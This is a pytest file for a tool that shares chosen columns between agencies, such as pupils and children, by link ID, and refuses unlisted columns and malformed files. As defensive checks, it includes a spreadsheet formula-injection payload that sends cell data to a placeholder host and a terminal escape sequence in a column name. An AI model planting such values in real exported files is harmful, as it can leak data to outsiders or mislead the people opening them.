"""Exchanging columns by link ID: what was listed passes, and nothing else."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

import pytest
from samples.refusals import raises

from encoding.errors import (
    ColumnNotListedError,
    ConfigError,
    EmptyFileError,
    FileMissingError,
    LinksFileError,
)
from encoding.records.agency_file import AgencyFile
from encoding.sharing.columns import Attached, attach, choose_columns, extract, not_agreed
from encoding.sharing.links_file import Link, write_links

A, B, C = "a" * 32, "b" * 32, "c" * 32
Write = Callable[..., Path]


@pytest.fixture
def write(tmp_path: Path) -> Write:
    def write_text(name: str, *lines: str) -> Path:
        path = tmp_path / name
        path.write_text("".join(f"{line}\n" for line in lines), encoding="utf-8")
        return path

    return write_text


@pytest.fixture
def pupils(write: Write) -> AgencyFile:
    return AgencyFile(
        write(
            "pupils.csv",
            "SID,name,school,grade",
            "p2,Bo,North,5",
            "p1,Ana,South,4",
            "p1,Ana,South,4",
            "p1,Ana,North,4",
            "p9,Zoe,East,1",
        ),
        "SID",
    )


@pytest.fixture
def children(write: Write) -> AgencyFile:
    return AgencyFile(write("children.csv", "ID,name,county", "7,Ana,K", "8,Bo,L", "9,Cy,M"), "ID")


@pytest.fixture
def school_links(tmp_path: Path) -> Path:
    write_links(tmp_path / "s.csv", [Link("p1", B), Link("p2", A)])
    return tmp_path / "s.csv"


@pytest.fixture
def welfare_links(tmp_path: Path) -> Path:
    write_links(tmp_path / "w.csv", [Link("7", B), Link("8", A)])
    return tmp_path / "w.csv"


@pytest.fixture
def received(pupils: AgencyFile, school_links: Path, tmp_path: Path) -> Path:
    extract(pupils, school_links, ["school", "grade"], tmp_path / "received.csv")
    return tmp_path / "received.csv"


def lines(path: Path) -> list[str]:
    return path.read_text(encoding="utf-8").splitlines()


def test_extract_holds_link_ids_and_chosen_columns_alone(received: Path) -> None:
    assert lines(received) == [
        "link_id,school,grade",
        f"{A},North,5",
        f"{B},North,4",
        f"{B},South,4",
    ]


def test_extract_has_no_row_without_a_link_and_no_record_id(received: Path) -> None:
    text = received.read_text()
    for absent in ("East", "p1", "p2", "p9", "Ana"):
        assert absent not in text


def test_order_of_the_extract_is_not_that_of_the_file(
    pupils: AgencyFile, school_links: Path, write: Write, tmp_path: Path, received: Path
) -> None:
    head, *rows = lines(pupils.path)
    shuffled = AgencyFile(write("again.csv", head, *reversed(rows)), "SID")
    extract(shuffled, school_links, ["school", "grade"], tmp_path / "again-extract.csv")
    assert lines(tmp_path / "again-extract.csv") == lines(received)


def test_attach_writes_record_id_and_listed_columns(
    children: AgencyFile, welfare_links: Path, received: Path, tmp_path: Path
) -> None:
    done = attach(children, welfare_links, received, ["grade", "school"], tmp_path / "out.csv")
    assert lines(tmp_path / "out.csv") == ["ID,grade,school", "7,4,North", "7,4,South", "8,5,North"]
    assert done == Attached(rows=3, rows_attached=3)


def test_received_cells_are_no_formulas_for_a_spreadsheet(
    children: AgencyFile, welfare_links: Path, tmp_path: Path
) -> None:
    received = tmp_path / "received.csv"
    cells = ['=HYPERLINK("http://x/?"&A1)', "@SUM(A1)", "-1.5", "+1 555-0100"]
    with received.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["link_id", "school"], *([A, cell] for cell in cells)])
    attach(children, welfare_links, received, ["school"], tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert [row[1] for row in rows[1:]] == [f"'{cells[0]}", f"'{cells[1]}", *cells[2:]]


def test_a_received_column_is_no_formula_for_a_spreadsheet(
    children: AgencyFile, welfare_links: Path, tmp_path: Path
) -> None:
    received = tmp_path / "received.csv"
    received.write_text(f"link_id,=last\n{A},Ortiz\n", "utf-8")
    attach(children, welfare_links, received, ["=last"], tmp_path / "out.csv")
    assert lines(tmp_path / "out.csv")[0] == "ID,'=last"


def test_a_received_column_with_control_characters_is_named_without_them(
    children: AgencyFile, welfare_links: Path, write: Write, tmp_path: Path
) -> None:
    received = write("odd.csv", "link_id,school\x1b[2K", f"{A},x")
    with raises(ColumnNotListedError, match=r"the column school\\x1b\[2K, which"):
        attach(children, welfare_links, received, ["school"], tmp_path / "out.csv")


def test_kept_columns_stand_before_the_attached(
    children, welfare_links, received, tmp_path
) -> None:
    out = tmp_path / "out.csv"
    attach(children, welfare_links, received, ["school", "grade"], out, keep=["county"])
    assert lines(out)[:2] == ["ID,county,school,grade", "7,K,North,4"]


def test_rows_without_a_link_are_kept_on_request(
    children, welfare_links, received, tmp_path
) -> None:
    out = tmp_path / "out.csv"
    columns = ["school", "grade"]
    done = attach(children, welfare_links, received, columns, out, keep_unlinked=True)
    assert lines(out)[-1] == "9,,"
    assert done == Attached(rows=4, rows_attached=3)


def test_unlisted_column_of_a_received_file_is_refused(
    children, welfare_links, received, tmp_path
) -> None:
    with raises(ColumnNotListedError, match="grade"):
        attach(children, welfare_links, received, ["school"], tmp_path / "out.csv")
    assert not (tmp_path / "out.csv").exists()


def test_listed_column_that_was_not_received_is_named(children, welfare_links, received, tmp_path):
    columns = ["school", "grade", "teacher"]
    with raises(LinksFileError, match="has no column teacher"):
        attach(children, welfare_links, received, columns, tmp_path / "out.csv")


def test_received_file_of_no_rows_attaches_nothing(
    children, welfare_links, write, tmp_path
) -> None:
    received = write("none.csv", "link_id,school")
    done = attach(children, welfare_links, received, ["school"], tmp_path / "out.csv")
    assert done == Attached(rows=0, rows_attached=0)
    assert lines(tmp_path / "out.csv") == ["ID,school"]


def test_own_file_of_no_rows_is_an_error(write, welfare_links, received, tmp_path) -> None:
    empty = AgencyFile(write("empty.csv", "ID,name"), "ID")
    with pytest.raises(EmptyFileError):
        attach(empty, welfare_links, received, ["school", "grade"], tmp_path / "out.csv")


@pytest.mark.parametrize("head", ["school,grade", "linkid,school,grade"])
def test_received_file_without_link_ids_is_refused(children, welfare_links, write, tmp_path, head):
    received = write("odd.csv", head, "x" + ",y" * head.count(","))
    with raises(LinksFileError, match="no column link_id"):
        attach(children, welfare_links, received, ["school", "grade"], tmp_path / "out.csv")


def test_received_cell_that_is_no_link_id_is_named_by_row(children, welfare_links, write, tmp_path):
    received = write("odd.csv", "link_id,school", f"{A},North", "7,South")
    with raises(LinksFileError, match="row 2: not a link ID"):
        attach(children, welfare_links, received, ["school"], tmp_path / "out.csv")


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (b"", "no header row"),
        (b"\xff\xfel\0i\0", "a NUL byte"),
        (b"link_id,school,school\n", "the same name"),
        (b"PK\x03\x04", "an archive"),
        (b"link_id,school\n" + A.encode() + b",a,b\n", "row 1 has 3 cells"),
        (b"link_id,school\n" + A.encode() + b',"a\n', "do not pair up"),
        (b"link_id,school\n" + A.encode() + b"," + bytes(3) + b"\n", "a NUL byte"),
        (b"link_id,school\n" + A.encode() + b"," + b"x" * 1_000_001 + b"\n", "longer than"),
    ],
    ids=["empty", "UTF-16", "twice", "ZIP", "ragged", "open", "NUL", "long"],
)
def test_a_received_file_that_cannot_be_read_is_told_from_ones_own(
    children: AgencyFile, welfare_links: Path, tmp_path: Path, content: bytes, told: str
) -> None:
    received = tmp_path / "received.csv"
    received.write_bytes(content)
    with raises(LinksFileError, match=told) as caught:
        attach(children, welfare_links, received, ["school"], tmp_path / "out.csv")
    assert "received.csv" in str(caught.value)
    assert "blindlink extract" in str(caught.value.hint)


def test_a_received_file_that_is_not_there_is_nobodys_fault(
    children: AgencyFile, welfare_links: Path, tmp_path: Path
) -> None:
    with raises(FileMissingError):
        attach(children, welfare_links, tmp_path / "none.csv", ["school"], tmp_path / "out.csv")


def test_link_ids_of_another_run_are_refused(children, welfare_links, write, tmp_path) -> None:
    received = write("other.csv", "link_id,school", f"{C},North")
    with raises(LinksFileError, match="none of the link IDs") as caught:
        attach(children, welfare_links, received, ["school"], tmp_path / "out.csv")
    assert "same run" in str(caught.value.hint)


def test_column_of_both_files_is_refused(children, welfare_links, write, tmp_path) -> None:
    received = write("both.csv", "link_id,county", f"{A},X")
    with raises(ConfigError, match="twice"):
        attach(children, welfare_links, received, ["county"], tmp_path / "out.csv", keep=["county"])


def test_a_received_column_named_as_that_of_ones_own_record_ids_is_refused_with_a_way_out(
    children: AgencyFile, welfare_links: Path, write: Write, tmp_path: Path
) -> None:
    name = children.id_column
    received = write("ids.csv", f"link_id,{name}", f"{A},X")
    with raises(ConfigError, match=f"the column {name} would be there twice") as caught:
        attach(children, welfare_links, received, [name], tmp_path / "out.csv")
    assert "in your own file" in str(caught.value.hint)
    assert not (tmp_path / "out.csv").exists()


def test_only_listed_columns_can_be_chosen() -> None:
    assert choose_columns(["grade"], ["school", "grade"]) == ("grade",)
    assert choose_columns([], ["school", "grade"]) == ("school", "grade")
    with raises(ColumnNotListedError, match="name"):
        choose_columns(["grade", "name"], ["school", "grade"])


def test_nothing_is_shared_unless_something_is_listed() -> None:
    with raises(ColumnNotListedError, match="no column is listed"):
        choose_columns([], [])


def test_cells_with_commas_and_line_ends_survive(write, tmp_path) -> None:
    path = tmp_path / "q.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["SID", "school"], ["p1", 'St. "X", East\nWing']])
    write_links(tmp_path / "l.csv", [Link("p1", A)])
    extract(AgencyFile(path, "SID"), tmp_path / "l.csv", ["school"], tmp_path / "o.csv")
    rows = list(csv.reader((tmp_path / "o.csv").read_text().splitlines(keepends=True)))
    assert rows == [["link_id", "school"], [A, 'St. "X", East\nWing']]


def test_a_carriage_return_in_a_cell_makes_no_row_at_the_recipient(
    children: AgencyFile, school_links: Path, welfare_links: Path, tmp_path: Path
) -> None:
    (tmp_path / "old.csv").write_bytes(b'SID,school,grade\np1,"North\r8",4\np2,East,5\n')
    handed, out = tmp_path / "handed.csv", tmp_path / "out.csv"
    extract(AgencyFile(tmp_path / "old.csv", "SID"), school_links, ["school", "grade"], handed)
    attach(children, welfare_links, handed, ["school", "grade"], out)
    assert out.read_bytes() == b'ID,school,grade\n7,"North\r8",4\n8,East,5\n'


@pytest.mark.parametrize(
    ("columns", "agreed", "left"),
    [
        (("school", "Grade_Level"), ("School", "Grade level"), ()),
        (("school", "phone"), ("School", "Grade level"), ("phone",)),
        (("school",), None, ()),
        (("school",), (), ("school",)),
        (("schools",), ("School",), ("schools",)),
    ],
)
def test_columns_that_the_agreement_does_not_name_are_told(
    columns: tuple[str, ...], agreed: tuple[str, ...] | None, left: tuple[str, ...]
) -> None:
    assert not_agreed(columns, agreed) == left
